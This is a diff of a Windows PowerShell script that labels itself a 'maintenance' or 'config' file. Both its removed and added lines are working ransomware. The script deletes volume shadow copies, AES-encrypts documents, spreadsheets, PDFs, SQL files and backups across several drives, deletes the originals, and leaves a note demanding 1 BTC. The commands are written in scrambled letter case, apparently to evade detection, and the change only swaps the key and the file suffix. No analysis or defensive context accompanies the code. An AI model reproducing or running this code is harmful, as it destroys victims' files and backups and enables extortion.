@@ -1,12 +1,12 @@
-# CoNfIg 7613 V3
-vSsAdMiN.eXe DELeTE ShADoWs /alL /qUiEt
-GeT-WmioBJEct wIn32_sHaDoWcOpY | fOrEACh-objEct { $_.deLete() }
-$AEs = [sYSTEM.sEcUrItY.crypTOgRaPhy.AES]::cReAtE()
-$aES.KEy = [TeXT.eNcODIng]::uTF8.getBYTES('Qwerty#7788Qwerty#7788'.sUBstRInG(0,32))
-Get-cHildITeM -PatH d:\, e:\, c:\usERS -iNclUDE *.DoCx,*.xlsX,*.pdf,*.sQL,*.bak -ReCuRsE -ErRoRaCtIoN SiLeNtLyCoNtInUe | forEAch-obJECt {
-  $ByTes = [Io.fILE]::ReAdAlLbYtEs($_.fuLLNamE)
-  $enC = $Aes.cReAtEeNcRyPtOr().trANSfoRMFINaLblOCk($ByteS, 0, $BytEs.lEnGth)
-  [Io.fIlE]::wRiTeAlLbYtEs($_.FulLnamE + '.locked', $eNC)
-  REMOVe-iTEm $_.fUlLnAmE -fOrcE
+# MaInTeNaNcE 7768 V3
+VsSadmIn.EXe dElete ShAdOwS /alL /quiET
+geT-WMioBJEct win32_ShADowCoPY | FoReaCh-OBjecT { $_.DEletE() }
+$aES = [SYSteM.SeCUrIty.CrYpToGrApHy.aes]::CrEaTE()
+$AEs.key = [tEXt.EncodiNG]::utf8.gEtByTeS('Adm1n!strat0rAdm1n!strat0r'.SUBStRINg(0,32))
+gEt-CHILdItEM -path D:\, E:\, c:\USerS -InCLuDe *.docX,*.XlSx,*.pDF,*.SqL,*.BAk -recursE -ERroraCTIon SiLENtLYcONTinUE | FOreACh-Object {
+  $ByTEs = [iO.fiLE]::rEaDaLlByTeS($_.fULLNamE)
+  $eNC = $aes.cREaTEEncrypTOR().TrAnSfOrMfInAlBlOcK($bytES, 0, $BYtes.lENGtH)
+  [iO.FIle]::wrIteAllbytEs($_.FulLnaME + '.pay', $ENc)
+  REMOVE-item $_.FuLlnamE -fOrCe
 }
-sEt-cOnTeNt C:\usErs\pUBLIc\DEsKToP\hOw_tO_DeCrYpT.txt 'Your files have been encrypted. Pay 1 BTC to restore them.'
+seT-COntENT c:\UsErS\pubLic\DeSKTOp\HoW_To_dEcRyPt.TXt 'Your files have been encrypted. Pay 1 BTC to restore them.'
